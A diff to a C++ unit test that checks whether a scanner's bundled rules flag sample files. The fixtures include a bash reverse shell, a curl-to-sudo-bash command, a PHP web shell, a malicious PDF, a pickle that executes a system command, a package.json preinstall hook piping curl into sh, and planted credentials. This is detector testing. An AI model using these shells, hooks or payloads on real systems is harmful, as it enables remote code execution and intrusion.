@@ -50,11 +50,12 @@ TEST_F(Rules, RulesCannotIncludeFiles) {
 }
 
 TEST_F(Rules, TheBundledRulesFindWhatTheyAreFor) {
+  using namespace std::string_literals;
   put("shell.sh", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n");
   put("get.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sudo bash\n");
   put("shell.php", "<?php system($_GET['c']); ?>");
   put("a.pdf", "%PDF-1.7\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >>\n2 0 obj << /S /Launch >>\n");
-  put("m.pkl", std::string("\x80\x02" "cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3.", 40));
+  put("m.pkl", "\x80\x02" "cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3."s);
   put("k.pem", "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n");
   put("db.env", "URL=postgres://app:hunter2secret@db.example.invalid/x\n");
   put("package.json", R"({"scripts": {"preinstall": "curl http://example.invalid | sh"}})");
